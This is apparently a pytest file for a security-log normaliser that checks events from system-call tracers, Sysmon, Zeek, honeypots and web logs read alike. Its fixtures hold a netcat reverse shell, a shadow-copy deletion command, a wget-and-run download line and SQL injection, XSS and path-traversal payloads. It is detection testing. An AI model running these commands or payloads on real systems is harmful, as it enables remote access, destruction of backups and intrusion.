"""Events of data sets and detection labs say to the models what the same event says in the form that its maker writes."""
import json

import pytest

from aiscore_contract.event import Event
from aiscore_model.normalise import normalise

TRACED = {"processId": 7555, "parentProcessId": 7548, "userId": 1001, "processName": "sshd", "hostName": "web3", "eventId": "59", "eventName": "execve", "returnValue": 0,
          "args": [{"name": "pathname", "type": "const char*", "value": "/usr/bin/nc"}, {"name": "argv", "type": "const char**", "value": ["nc", "-e", "/bin/sh", "db7", "4444"]}]}
SYSMON = {"EventID": 1, "Channel": "Microsoft-Windows-Sysmon/Operational", "Computer": "host7", "Image": "C:\\Windows\\System32\\vssadmin.exe",
          "CommandLine": "vssadmin delete shadows /all /quiet"}


def read(event, sourcetype=""):
    return normalise(Event(event if isinstance(event, str) else json.dumps(event), sourcetype))


@pytest.mark.parametrize("sourcetype", ["", "csv"])
def test_a_row_of_system_calls_reads_as_the_object_that_the_tracer_wrote(sourcetype):
    row = (f"188.010065,7555,7555,7548,1001,4026531840,sshd,web3,59,execve,[],2,0,\"{TRACED['args']}\",1,1")
    told, native = read(row, sourcetype), read(TRACED)
    assert (told.template, told.kind, told.action, told.focus) == (native.template, native.kind, native.action, native.focus)


def test_a_process_of_the_analytics_repository_reads_as_sysmons():
    record = {"object": "PROCESS", "action": "CREATE", "actorID": "a", "objectID": "b", "hostname": "host7",
              "properties": {"image_path": SYSMON["Image"], "command_line": SYSMON["CommandLine"]}}
    assert read(record).template == read(SYSMON).template and read(record).kind == "windows"


def test_a_few_columns_of_the_security_log_are_no_lookup_of_the_domain_in_them():
    told = read({"UserName": "ann", "EventID": 4625, "LogHost": "host7", "DomainName": "domain1", "LogonType": 3, "Source": "host9", "Time": 2})
    assert told.kind == "windows" and told.template.startswith("logon failed") and "dns" not in told.template


@pytest.mark.parametrize("older, newer", [
    ("53\tudp\t33008\tshop.example\t1\tC_INTERNET\t16\tTXT\t3\tNXDOMAIN\tF\tF\tT\tF\t0\t-\t-\tF", "53\tudp\t33008\t-\tshop.example\t1\tC_INTERNET\t16\tTXT\t3\tNXDOMAIN\tF\tF\tT\tF\t0\t-\t-\tF"),
    ("80\t1\tGET\tshop.example\t/a\t-\tcurl/7.1\t0\t300\t404\tNot Found\t-\t-\t-\t(empty)\t-\t-", "80\t1\tGET\tshop.example\t/a\t-\t-\tcurl/7.1\t-\t0\t300\t404\tNot Found\t-\t-\t(empty)\t-\t-"),
    ("80\ttcp\t-\t0.01\t166\t214\tSF\t-\t0\tShADfFa\t4\t382\t3\t382\t(empty)", "80\ttcp\t-\t0.01\t166\t214\tSF\t-\t-\t0\tShADfFa\t4\t382\t3\t382\t(empty)"),
])
def test_a_row_of_an_older_zeek_reads_as_one_of_todays(older, newer):
    ends = "1700000000.1\tCa1\t10.0.0.5\t51000\t10.0.0.6\t"
    assert read(ends + older).template == read(ends + newer).template


def test_an_event_behind_the_number_that_a_reader_of_windows_files_gave_it_is_that_event():
    event = json.dumps({"Event": {"System": {"Provider": {"#attributes": {"Name": "Microsoft-Windows-Sysmon"}}, "EventID": 1, "Computer": "host7"},
                                  "EventData": {"Image": SYSMON["Image"], "CommandLine": SYSMON["CommandLine"]}}})
    assert read(f"Record 1\n{event}").template == read(event).template == read(SYSMON).template


def test_a_command_typed_at_a_honeypots_bridge_reads_as_one_in_its_shell():
    command = "cd /tmp; wget http://db7/a.sh; sh a.sh"
    told = [read({"eventid": f"{pot}.command.input", "src_ip": "gate7", "input": given}) for pot, given in (("cowrie", command), ("adbhoney", f"shell:{command}"))]
    assert told[0].template == told[1].template and told[1].action == "shell command"


@pytest.mark.parametrize("payload, word", [("' or 1=1 --", "comment"), ("<script>alert(1)</script>", "script"), ("../../../etc/passwd%00", "traversal")])
def test_a_payload_alone_reads_as_a_parameter_that_holds_it(payload, word):
    told = read(payload)
    assert told.kind == "web" and word in told.template.split()


def test_an_address_without_its_scheme_reads_as_with_it():
    assert read("shop.example/a/login.php?id=1").template == read("http://shop.example/a/login.php?id=1").template
